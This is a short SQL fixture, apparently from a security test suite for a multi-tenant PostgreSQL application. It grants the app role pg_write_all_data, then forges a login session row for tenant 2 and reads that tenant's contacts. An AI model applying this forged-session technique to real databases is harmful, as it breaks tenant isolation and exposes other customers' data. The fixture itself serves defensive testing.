-- pg_write_all_data lets the app role write the sessions that decide which tenant a token stands for.
-- object: role:{app}
-- object: ctx.login_session
-- base: third_session
--- leak
RESET ROLE;
GRANT pg_write_all_data TO {app};
--- exploit
INSERT INTO ctx.login_session (token, tenant_id) VALUES ('forged', 2);
SELECT set_config('ctx.token', 'forged', true);
SELECT name FROM crm.contact WHERE tenant_id = 2;
